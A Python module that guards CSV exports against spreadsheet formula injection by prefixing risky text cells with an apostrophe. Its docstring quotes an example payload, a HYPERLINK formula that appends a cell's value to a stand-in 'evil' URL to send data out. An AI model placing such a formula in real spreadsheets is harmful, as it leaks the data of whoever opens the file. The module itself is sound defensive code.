"""Exports that a spreadsheet opens safely (CSV injection, OWASP "CSV Injection").

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1, "Click")``
typed into a consultation answer would run in the analyst's spreadsheet. Every text cell that
an export writes goes through ``safe_cell``: such a text is prefixed with ``'`` so it shows as
typed; numbers (and dates, booleans, None) are left alone, so ``-3`` stays a number.
"""

from __future__ import annotations

import csv
import datetime
import decimal
from collections.abc import Iterable
from typing import Any

from plangov.tabular import FORMULA_STARTS

__all__ = ["FORMULA_STARTS", "is_number", "safe_cell", "write_csv"]


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV or XLSX cell: a text starting like a formula gets a
    leading ``'``; anything that is not text is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def is_number(value: Any) -> bool:
    return isinstance(value, int | float | decimal.Decimal) and not isinstance(value, bool)


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(_plain(v)) for v in values]


def _plain(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, datetime.date | datetime.datetime):
        return value.isoformat()
    return value


def write_csv(stream: Any, header: list[str], rows: Iterable[Iterable[Any]]) -> None:
    """Write ``header`` and ``rows`` as CSV to a text stream, every cell through safe_cell."""
    writer = csv.writer(stream)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
